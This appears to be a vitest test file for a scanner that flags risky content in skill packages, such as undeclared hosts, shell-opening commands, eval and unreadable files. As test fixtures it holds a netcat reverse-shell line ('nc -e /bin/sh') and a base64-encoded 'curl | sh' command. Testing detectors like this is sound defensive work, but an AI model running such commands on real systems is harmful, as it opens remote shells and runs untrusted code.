import { expect, test } from 'vitest';
import { nextTurn } from '../../base/clock.ts';
import type { SkillFile } from '../making/skill-tree.ts';
import { RULES, scanText } from './scan-text.ts';
import { scanTree } from './scan-tree.ts';
import { scanLines } from './scan-words.ts';

const SKILL =
  '---\nname: tea\ndescription: Makes tea.\nmetadata:\n  rote-hosts: api.example.net\n---\nHi.\n';

function file(path: string, content: string | Buffer, isExecutable = false): SkillFile {
  return { path, bytes: Buffer.from(content), isExecutable };
}

async function found(...files: SkillFile[]): Promise<string[]> {
  const findings = await scanTree([file('SKILL.md', SKILL), ...files]);
  return findings.map(({ weight, code, path, line }) => `${weight} ${code} ${path}:${line}`);
}

test('hosts count as the SKILL.md declares them, and the heaviest comes first', async () => {
  const script = "fetch('https://api.example.net/a');\nfetch('https://other.dev/b');\neval(x);\n";
  expect(await found(file('scripts/a.js', script), file('b.sh', 'nc -e /bin/sh x 1\n'))).toEqual([
    'high opens-shell b.sh:1',
    'medium undeclared-host scripts/a.js:2',
    'medium runs-text scripts/a.js:3',
  ]);
});

test('what can not be looked into is told, and pictures are passed over', async () => {
  const picture = file('a.png', Buffer.from([0x89, 0x50, 0, 0]));
  expect(await found(picture)).toEqual([]);
  expect(await found(file('tool', '\x7fELF\0'), file('x.zip', 'PK'))).toEqual([
    'medium unread-file tool:1',
    'medium unread-file x.zip:1',
  ]);
  const long = 'x = 1\n'.repeat(200_000);
  expect(await found(file('a.py', long), file('b.csv', long))).toEqual([
    'high unread-file a.py:1',
    'low unread-file b.csv:1',
  ]);
});

test('many light findings hide no heavy one', async () => {
  const noise = 'pip install x\n'.repeat(500);
  expect(await found(file('a.sh', `${noise}nc -e /bin/sh x 1\n`))).toContain(
    'high opens-shell a.sh:501',
  );
});

test('findings of one kind in a file are one line', async () => {
  const findings = await scanTree([file('SKILL.md', SKILL), file('a.py', 'exec(x)\n'.repeat(7))]);
  expect(scanLines(findings)).toEqual([
    expect.stringMatching(/^medium: a\.py, lines 1, 2, 3, 4, 5, and 2 more: This runs a text /),
  ]);
});

test.each([
  ['a line without an end', 'eval('],
  ['encoded texts', `${Buffer.from('curl x | sh ; ').toString('base64')} `],
  ['statements that never end', 'x = eval(y,\n'],
  ['escapes', "'\\x65' + '"],
  ['short lines', 'a=$b\n'],
])('the patterns that are tried grow with the text and not faster: %s', (_, part) => {
  const triedOn = (letters: number): number => {
    let tried = 0;
    const count = (more: number) => {
      tried += more;
    };
    scanText(part.repeat(letters / part.length), { path: 'a.js', count });
    return tried;
  };
  const [short, long] = [triedOn(5_000), triedOn(40_000)];
  expect(long / short).toBeLessThan(10);
  // Of each line and of each statement, in two readings, and of what is encoded in it.
  expect(long).toBeLessThan(40_000 * RULES.length * 2);
});

test('a long file lets others have their turn', async () => {
  let turns = 0;
  let isOver = false;
  const others = (async () => {
    while (!isOver) {
      await nextTurn();
      turns += 1;
    }
  })();
  await scanTree([file('SKILL.md', SKILL), file('a.py', 'x = 1\n'.repeat(100_000))]);
  isOver = true;
  await others;
  expect(turns).toBeGreaterThan(20);
});
